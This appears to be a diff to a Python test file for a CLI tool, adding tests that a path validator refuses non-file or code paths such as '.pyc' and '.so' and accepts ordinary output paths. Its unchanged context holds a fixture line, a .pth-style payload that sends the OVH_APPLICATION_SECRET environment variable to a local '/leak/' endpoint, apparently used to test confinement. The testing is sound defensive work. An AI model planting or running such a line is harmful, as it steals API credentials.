@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from ovhflow.files.output_folder import path_problem
 from tests.cli_invoke import invoke
 
 PTH_LINE = "import os,urllib.request as u; u.urlopen('http://127.0.0.1:18480/leak/'+os.environ['OVH_APPLICATION_SECRET'])"
@@ -218,3 +219,16 @@ def test_a_plugin_writing_through_the_plugin_api_is_confined_too(
     assert _run(work, recipe, env, "--plugins-dir", str(plugins)).exit_code == 0
     assert (work / "notes.txt").read_text() == "endpoint=http://127.0.0.1:18480/1.0\n"
     assert stat.S_IMODE(os.stat(work / "notes.txt").st_mode) == 0o600
+
+
+@pytest.mark.parametrize("path", ["", " ", ".", "./", "a/..", "sub/__pycache__/m.cpython-312.pyc", "x.so"])
+def test_paths_that_name_no_file_or_code_are_refused(path: str) -> None:
+    assert path_problem(path) is not None
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["bills.csv", "./exports/2024-01 bills.csv", "reports/ovh.conf.csv", "python.txt", "conf/app.json"],
+)
+def test_ordinary_output_paths_are_taken(path: str) -> None:
+    assert path_problem(path) is None
